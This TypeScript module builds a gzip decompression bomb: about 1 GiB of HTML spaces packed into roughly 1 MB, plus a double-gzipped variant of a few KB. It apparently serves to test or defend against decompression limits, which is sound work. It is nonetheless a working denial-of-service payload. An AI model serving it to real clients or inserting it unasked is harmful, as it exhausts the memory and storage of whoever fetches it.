// A gzip bomb built in milliseconds: one independently compressed 1 MiB block of spaces (a full flush makes
// it byte-aligned and free of back-references) repeated 1024 times, with the CRC of the whole gigabyte
// derived by CRC combination instead of by reading a gigabyte.
import zlib from 'node:zlib';

export const BOMB_INFLATED_BYTES = 1024 * 1024 * 1024;

function gf2Times(mat: Uint32Array, vec: number): number {
  let sum = 0;
  for (let i = 0; vec !== 0; i++, vec >>>= 1) if (vec & 1) sum ^= mat[i];
  return sum >>> 0;
}

function gf2Square(square: Uint32Array, mat: Uint32Array): void {
  for (let n = 0; n < 32; n++) square[n] = gf2Times(mat, mat[n]);
}

/** CRC-32 of A‖B from crc(A), crc(B) and len(B) (zlib's crc32_combine). */
export function crc32Combine(crc1: number, crc2: number, len2: number): number {
  if (len2 <= 0) return crc1 >>> 0;
  const even = new Uint32Array(32);
  const odd = new Uint32Array(32);
  odd[0] = 0xedb88320;
  for (let n = 1, row = 1; n < 32; n++, row <<= 1) odd[n] = row;
  gf2Square(even, odd); // operator for two zero bits
  gf2Square(odd, even); // operator for four zero bits
  let crc = crc1 >>> 0;
  for (;;) {
    gf2Square(even, odd);
    if (len2 % 2 === 1) crc = gf2Times(even, crc);
    len2 = Math.floor(len2 / 2);
    if (len2 === 0) break;
    gf2Square(odd, even);
    if (len2 % 2 === 1) crc = gf2Times(odd, crc);
    len2 = Math.floor(len2 / 2);
    if (len2 === 0) break;
  }
  return (crc ^ crc2) >>> 0;
}

let bomb: Buffer | undefined;

/** gzip of a 1 GiB page of spaces. Deflate cannot beat ~1032:1, so one gzip layer is ~1 MB on the wire. */
export function gzipBomb(): Buffer {
  if (bomb) return bomb;
  const prefix = Buffer.from('<!doctype html><html><head><title>Bomb</title></head><body>');
  const block = Buffer.alloc(1024 * 1024, 0x20);
  const repeats = BOMB_INFLATED_BYTES / block.length;
  const flush = { finishFlush: zlib.constants.Z_FULL_FLUSH };
  const packed = zlib.deflateRawSync(block, { ...flush, level: 9 });
  let blocksCrc = zlib.crc32(block);
  let blocksLen = block.length;
  while (blocksLen < BOMB_INFLATED_BYTES) {
    blocksCrc = crc32Combine(blocksCrc, blocksCrc, blocksLen);
    blocksLen *= 2;
  }
  const trailer = Buffer.alloc(8);
  trailer.writeUInt32LE(crc32Combine(zlib.crc32(prefix), blocksCrc, BOMB_INFLATED_BYTES), 0);
  trailer.writeUInt32LE((prefix.length + BOMB_INFLATED_BYTES) % 2 ** 32, 4);
  bomb = Buffer.concat([
    Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 2, 255]), // gzip header: deflate, no name, max compression
    zlib.deflateRawSync(prefix, flush),
    ...Array<Buffer>(repeats).fill(packed),
    zlib.deflateRawSync(Buffer.alloc(0)), // the final, empty block
    trailer,
  ]);
  return bomb;
}

let nested: Buffer | undefined;

/** The bomb gzipped once more (served as "Content-Encoding: gzip, gzip"): a few KB on the wire. */
export function nestedGzipBomb(): Buffer {
  nested ??= zlib.gzipSync(gzipBomb(), { level: 9 });
  return nested;
}
